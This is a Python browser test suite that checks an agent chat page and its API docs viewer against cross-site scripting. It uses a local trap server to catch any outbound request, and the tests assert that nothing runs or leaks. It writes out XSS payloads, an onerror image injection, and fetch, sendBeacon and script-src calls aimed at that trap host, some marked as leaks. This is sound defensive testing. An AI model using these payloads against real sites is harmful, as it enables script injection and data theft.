"""Hostile words run nothing and fetch nothing, on /simple and in /docs, in a real browser (TRU-13, UI-8)."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import pytest_asyncio

from tests.browser.conftest import Open, Start, Tab
from tests.browser.xss import PAYLOADS

AGENTS = Path(__file__).with_name("xss.py")
MADE = "document.querySelectorAll(':is(#log,#starters,#state) :is(img,script,svg,iframe,object,embed,style,link,base,meta,a,video,audio,template,math)').length"
HANDLERS = "[...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => /^on|^style$/i.test(a.name))).length"


class Trap:
    """A server nobody may call; `hits` are those who did."""

    def __init__(self) -> None:
        self.hits: list[bytes] = []
        self.port = 0

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.hits.append(await reader.read(200))
        writer.close()


@pytest_asyncio.fixture(loop_scope="session")
async def trap(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Trap]:
    made = Trap()
    listener = await asyncio.start_server(made.serve, "127.0.0.1", 0)
    made.port = listener.sockets[0].getsockname()[1]
    monkeypatch.setenv("TRAP_PORT", str(made.port))  # for the agents of the server
    yield made
    listener.close()


def aimed(payload: str, trap: Trap) -> str:
    return payload.replace("http://127.0.0.1:9/", f"http://127.0.0.1:{trap.port}/")


def watch(tab: Tab) -> list[str]:
    """Note what only a script that ran can do."""
    seen: list[str] = []

    async def dialog(found: Any) -> None:
        seen.append(f"dialog {found.message}")
        await found.dismiss()

    def logged(found: Any) -> None:
        if "hacked" in found.text:
            seen.append(found.text)

    def opened(found: Any) -> None:
        seen.append(f"a window or a download: {found}")

    tab.page.on("dialog", dialog)
    tab.page.on("console", logged)
    tab.page.on("popup", opened)
    tab.page.on("download", opened)
    return seen


@pytest.mark.timeout(240)
@pytest.mark.contract("TRU-13", "UI-8")
async def test_no_words_run_or_fetch_anything_on_the_page(start: Start, tab: Open, trap: Trap) -> None:
    """In titles, messages of both sides, reasoning, tools' names, arguments, results and errors, sources, outputs,
    questions, choices and starters.
    """
    page = await tab(await start(AGENTS))
    seen, address = watch(page), page.page.url
    await page.choose("mirror")
    for number, payload in enumerate(PAYLOADS):
        await page.say(aimed(payload, trap))
        await page.page.locator(".output").nth(number).wait_for()
        await page.idle()
    for summary in await page.page.locator("details.tool summary").all():
        await summary.evaluate("summary => { summary.parentElement.open = true; }")
    shown = await page.page.locator(".assistant").all_text_contents()
    for payload in PAYLOADS:
        assert aimed(payload, trap).strip() in shown, payload
    assert await page.page.locator("details.tool").count() == 2 * len(PAYLOADS)
    await _nothing_happened(page, seen, trap, address)

    await page.choose("asks")
    assert await page.page.locator("#starters button").count() == 20
    await page.say("go")
    await page.page.locator(".question button").nth(len(PAYLOADS) - 1).wait_for()
    await page.page.locator(".question button").nth(2).click()
    await page.idle()
    await _nothing_happened(page, seen, trap, address)
    assert await page.page.title() == "Landline"
    await page.picture("xss")


async def _nothing_happened(page: Tab, seen: list[str], trap: Trap, address: str) -> None:
    await asyncio.sleep(0.5)
    assert seen == []
    assert trap.hits == []
    assert await page.page.evaluate("window.hacked") is None
    assert await page.page.evaluate(MADE) == 0
    assert await page.page.evaluate(HANDLERS) == 0
    assert page.page.url == address


@pytest.mark.contract("TRU-13", "TRU-17")
async def test_no_problem_runs_anything_on_the_page(start: Start, tab: Open, trap: Trap) -> None:
    """Details of errors are words too, whoever wrote them."""
    page = await tab(await start(AGENTS))
    seen, address = watch(page), page.page.url
    told: list[str] = []

    async def answer(route: Any) -> None:
        detail = aimed(PAYLOADS[len(told) % len(PAYLOADS)], trap)
        told.append(detail)
        await route.fulfill(status=422, content_type="application/problem+json", json={"detail": detail})

    await page.page.route("**/api/v1/runs", answer)
    await page.choose("mirror")
    for number in range(len(PAYLOADS)):
        await page.say("go")
        await page.page.locator(".problem").nth(number).wait_for()
    assert await page.page.locator(".problem").all_text_contents() == told
    # The browser logs each of these answers; that is what was asked for here.
    page.complaints[:] = [text for text in page.complaints if "status of 422" not in text]
    await _nothing_happened(page, seen, trap, address)


@pytest.mark.timeout(120)
@pytest.mark.contract("TRU-13")
async def test_the_docs_run_and_load_nothing_that_an_address_or_an_answer_names(
    start: Start, tab: Open, trap: Trap
) -> None:
    """The viewer knows parameters that load another document; ours reads its own only."""
    server = await start(AGENTS)
    evil = quote(f"http://127.0.0.1:{trap.port}/evil.json", safe="")
    script = quote(PAYLOADS[2], safe="")
    for path in (
        f"/docs?url={evil}&configUrl={evil}&urls.primaryName={script}&oauth2RedirectUrl={evil}",
        f"/docs?{script}={script}#/{script}/{script}",
        f"/docs#javascript:{script}",
    ):
        page = await tab(server, path)
        seen = watch(page)
        await page.page.wait_for_selector(".opblock")
        assert await page.page.evaluate("window.hacked") is None
        assert (seen, trap.hits) == ([], [])
    operation = page.page.locator(".opblock-get", has_text="/api/v1/agents").first
    await operation.locator(".opblock-summary-control").click()
    await operation.locator("button.execute").click()
    answer = operation.locator(".live-responses-table")
    await answer.wait_for()
    assert "<script>window.hacked=1" in await answer.inner_text()
    assert await page.page.evaluate("window.hacked") is None
    assert (seen, trap.hits) == ([], [])


@pytest.mark.contract("TRU-13")
@pytest.mark.parametrize("path", ["/simple", "/docs"])
async def test_no_page_can_be_framed_or_take_a_script_that_is_not_its_own(
    start: Start, tab: Open, trap: Trap, path: str
) -> None:
    """What the policy is for: it holds even where a page has a hole."""
    server = await start(AGENTS)
    page = await tab(server, path)
    for attempt in (
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hacked=1'}))",
        f"document.body.append(Object.assign(new Image(), {{src: 'http://127.0.0.1:{trap.port}/p.png'}}))",
        f"document.body.append(Object.assign(document.createElement('script'), {{src: 'http://127.0.0.1:{trap.port}/x.js'}}))",
        f"fetch('http://127.0.0.1:{trap.port}/leak').catch(() => null)",
        f"navigator.sendBeacon('http://127.0.0.1:{trap.port}/beacon', 'x')",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.hacked=1>')",
        f"document.body.insertAdjacentHTML('beforeend', '<iframe src=\"http://127.0.0.1:{trap.port}/f\"></iframe>')",
    ):
        await page.page.evaluate(f"() => {{ {attempt}; }}")
    await asyncio.sleep(0.5)
    assert await page.page.evaluate("window.hacked") is None
    assert trap.hits == []
    frame = f"<iframe src='{server.process.url}{path}'></iframe>"
    await page.page.goto("about:blank")
    await page.page.set_content(frame)
    await asyncio.sleep(0.5)
    assert await page.page.frames[1].locator("#ask, .opblock").count() == 0
    # All of that was refused by the policy, and the browser says so each time.
    refused = [text for text in page.complaints if "Content Security Policy" in text]
    assert len(refused) >= 7, page.complaints
    page.complaints.clear()
    page.requests[:] = [url for url in page.requests if f":{trap.port}/" not in url]
